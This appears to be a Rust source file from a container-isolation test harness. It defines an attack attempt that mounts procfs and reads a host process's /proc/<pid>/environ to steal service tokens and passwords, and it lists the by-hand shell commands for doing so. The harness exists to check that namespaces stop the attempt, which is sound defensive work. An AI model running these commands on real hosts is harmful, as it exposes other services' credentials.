//! proc-environ: read the environment of a process of the host.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "proc-environ",
    stake: "The secrets that services get in their environment: tokens, passwords, addresses.",
    story: "The attacker reads /proc/<pid>/environ of a process of the host. Where there is no \
            procfs it mounts one. A procfs shows the processes of the PID namespace in which it was \
            mounted: in one of its own the container sees itself, and nothing of the host.",
    by_hand: &["mount -t proc proc /proc", "tr '\\0' '\\n' < /proc/1234/environ    # a process of the host"],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["proc_pid_environ(5)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[
        libc::SYS_mount,
        libc::SYS_fsopen,
        libc::SYS_fsconfig,
        libc::SYS_fsmount,
        libc::SYS_move_mount,
        libc::SYS_openat,
        libc::SYS_openat2,
    ],
    attack,
    class: Refusal::Process,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let victim = me.victim()?;
    me.through_procfs(victim, |me, process| {
        let file = me.open_stake(&format!("{process}/environ"), libc::O_RDONLY)?;
        me.take(file)
    })
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("victim-environment") {
        return Seen::Effect("the attacker knows the environment of a process of the host".into());
    }
    Seen::Nothing
}
